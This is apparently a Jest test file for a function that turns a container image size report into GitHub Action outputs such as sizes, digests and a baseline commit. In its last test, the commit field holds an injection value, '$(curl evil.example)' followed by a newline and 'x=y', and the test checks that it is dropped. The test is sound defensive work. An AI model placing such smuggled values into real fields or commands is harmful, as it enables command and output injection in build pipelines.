import { describe, expect, it } from '@jest/globals';
import { actionOutputs } from '../../src/report/outputs.ts';
import type { ImageReport } from '../../src/report/report.ts';
import { createDigest } from '../support/profile.ts';
import { createImageReport, createPlatform, createReport, createUnbuiltPlatform } from '../support/report.ts';

const { delta: _, ...withoutDelta } = createPlatform();

function of(...platforms: ImageReport['platforms']) {
  return actionOutputs(createReport({ images: [createImageReport({ platforms })] }));
}

describe('actionOutputs', () => {
  it('gives everything of one image on one platform', () => {
    expect(actionOutputs(createReport())).toEqual({
      verdict: 'pass',
      'unpacked-size': '58100000',
      'download-size': '21304118',
      'size-delta': '1200000',
      'baseline-commit': '0c9be2f4471aa9d3d5f1c7e0b7a3a1f2d4c5b6a7',
      digest: createDigest(0xa001),
      imageid: createDigest(0xc001),
      metadata: JSON.stringify({
        'containerimage.digest': createDigest(0xa001),
        'containerimage.config.digest': createDigest(0xc001),
      }),
    });
  });

  it('adds up several, and names no one digest of theirs', () => {
    expect(of(createPlatform(), createPlatform({ platform: 'linux/arm64' }))).toEqual({
      verdict: 'pass',
      'unpacked-size': '116200000',
      'download-size': '42608236',
      'size-delta': '2400000',
      'baseline-commit': '',
      digest: '',
      imageid: '',
      metadata: '{}',
    });
  });

  it('leaves empty what is not known, never 0', () => {
    const size = { ...withoutDelta.size, downloadBytes: null };
    const outputs = of({ ...withoutDelta, digest: null, size, baseline: { source: 'none', tried: [] } });
    expect(outputs).toMatchObject({ 'download-size': '', 'size-delta': '', 'baseline-commit': '', digest: '' });
    expect(outputs.metadata).toBe(JSON.stringify({ 'containerimage.config.digest': createDigest(0xc001) }));
  });

  it('gives no sum where one of several has no number', () => {
    expect(of(createPlatform(), withoutDelta)).toMatchObject({ 'unpacked-size': '116200000', 'size-delta': '' });
    expect(of(createPlatform(), createUnbuiltPlatform())).toMatchObject({ 'unpacked-size': '', digest: '' });
    expect(of()).toMatchObject({ 'unpacked-size': '', 'size-delta': '', metadata: '{}' });
  });

  it('takes nothing but a commit from a stored baseline', () => {
    const baseline = { source: 'actions-cache' as const, commit: '$(curl evil.example)\nx=y', tried: [] };
    expect(of(createPlatform({ baseline }))['baseline-commit']).toBe('');
  });
});
